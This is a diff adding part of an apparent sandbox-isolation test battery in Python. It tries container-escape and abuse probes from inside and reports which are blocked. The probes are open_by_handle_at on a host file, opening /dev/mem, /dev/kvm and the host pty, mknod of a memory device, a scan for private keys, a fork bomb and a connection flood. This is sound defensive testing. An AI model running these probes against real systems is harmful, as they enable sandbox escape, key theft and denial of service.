+       lambda: fs_op(os.rename, prep("d"), os.path.join(CFG["ro"], "d")),
+       lambda: fs_op(os.rename, prep("d2"), rw("d2-renamed")))
+fscase("rename-read-only-file-into-read-write-tree",
+       lambda: fs_op(os.rename, CFG["ro_file"], rw("stolen")),
+       lambda: fs_op(os.rename, prep("e"), rw("e-renamed")))
+fscase("chmod-read-only-file", lambda: fs_op(os.chmod, CFG["ro_file"], 0o777),
+       lambda: fs_op(os.chmod, prep("f"), 0o600))
+
+
+def by_handle():
+    h = bytes.fromhex(CFG["handle"])
+    buf = ctypes.create_string_buffer(h, len(h))
+    fd = os.open(CFG["handle_dir"] if CFG["where"] == "outside" else "/", os.O_RDONLY)
+    try:
+        r = sys_call(NR["open_by_handle_at"], fd, buf, os.O_RDONLY)
+    finally:
+        os.close(fd)
+    if isinstance(r, int):
+        os.close(r)
+        return True, "opened the host-only file by handle"
+    return False, r
+
+
+netcase("open-by-handle-of-host-file", by_handle)
+
+
+def dev_open(path):
+    try:
+        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        os.close(fd)
+        return True, "opened %s" % path
+    except OSError as e:
+        return False, "%s: %s" % (path, err(e))
+
+
+for dev in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/loop0", "/dev/console", "/dev/tty1"):
+    netcase("host-device-" + dev[5:], lambda dev=dev: dev_open(dev) if (
+        CFG["where"] == "inside" or os.path.exists(dev)) else (True, dev + " absent on the host"))
+
+
+netcase("sys-is-not-there", lambda: (lambda e: (e, "/sys/kernel %s" % (
+    "exists" if e else "absent")))(os.path.exists("/sys/kernel")))
+
+
+def mknod_mem(path):
+    try:
+        os.mknod(path, 0o600 | 0o020000, os.makedev(1, 1))
+        os.unlink(path)
+        return True, "made a char device 1:1"
+    except OSError as e:
+        return False, err(e)
+
+
+netcase("mknod-char-device", lambda: mknod_mem(os.path.join(
+    CFG["rw"] if CFG["where"] == "inside" else CFG["scratch"], "mem")))
+
+
+@case("ca-key-not-inside", control=lambda: (b"BEGIN CERTIFICATE" in read_file(
+        "/run/airlock/ca.pem")[1], "/run/airlock/ca.pem holds the CA certificate"))
+def _():
+    hits = []
+    for top in ("/run", "/tmp", CFG["rw"], "/dev", "/proc/self", "/proc/1"):
+        for d, _, files in os.walk(top):
+            if d.startswith(("/proc/self/task", "/proc/1/task")) or "/fd" in d:
+                continue
+            for f in files:
+                p = os.path.join(d, f)
+                if p.startswith("/proc") and f not in ("environ", "cmdline"):
+                    continue
+                ok, data = read_file(p) if not p.startswith("/dev/") or f in () else (False, b"")
+                if ok and b"PRIVATE KEY" in data:
+                    hits.append(p)
+    return not hits, "files with PRIVATE KEY: %s" % hits
+
+
+# --- terminals ----------------------------------------------------------------------------
+
+# The host's pty number: inside, /dev/pts is the sandbox's own and has no such entry
+# (this runs before the battery opens ptys of its own).
+netcase("host-pty", lambda: dev_open(CFG["host_pty"]))
+
+
+# --- resources ----------------------------------------------------------------------------
+
+@case("fork-bomb-stops-at-max-processes", control=control_api_ok)
+def _():
+    kids, why = [], "no limit met"
+    try:
+        for _ in range(CFG["bomb_cap"]):
+            pid = os.fork()
+            if pid == 0:
+                time.sleep(20)
+                os._exit(0)
+            kids.append(pid)
+    except OSError as e:
+        why = err(e)
+    for k in kids:
+        os.kill(k, 9)
+    for k in kids:
+        os.waitpid(k, 0)
+    ok, detail = control_api_ok()
+    return why == "EAGAIN" and len(kids) < CFG["max_processes"] and ok, \
+        "%d forks then %s; proxy afterwards: %s" % (len(kids), why, detail)
+
+
+@case("connection-flood-at-the-proxy", control=control_api_ok)
+def _():
+    socks = []
+    try:
+        for _ in range(600):
+            socks.append(socket.create_connection(PROXY, timeout=5))
+    except OSError:
+        pass
+    n = len(socks)
+    for s in socks:
+        s.close()
+    ok, detail = control_api_ok()
+    return ok, "%d connections held and closed; proxy afterwards: %s" % (n, detail)
+
+
+def main(argv):
+    global RECEIVED
+    outside = argv[1] == "--outside"
+    CFG.update(json.load(open(argv[-1])))
+    CFG["where"] = "outside" if outside else "inside"
+    RECEIVED = None if outside else CFG["received"]
+    for name, attack, control, where in CASES:
+        try:
+            if outside:
+                if where == "out":
+                    ok, detail = control()
+                    print("%s CONTROL %s %s" % (name, "ok" if ok else "failed", detail), flush=True)
+                continue
+            blocked, detail = attack()
+            if not blocked:
+                print("%s OPEN %s" % (name, detail), flush=True)
+                continue
+            if where == "in":
+                ok, cdetail = control()
+                if not ok:
+                    print("%s NOCONTROL %s; control: %s" % (name, detail, cdetail), flush=True)
+                    continue
+                detail += "; control: " + cdetail
+            print("%s BLOCKED %s" % (name, detail), flush=True)
+        except Exception as e:  # noqa: BLE001 - one broken probe must not hide the rest
+            print("%s ERROR %r" % (name, e), flush=True)
+
+
+if __name__ == "__main__":
+    main(sys.argv)
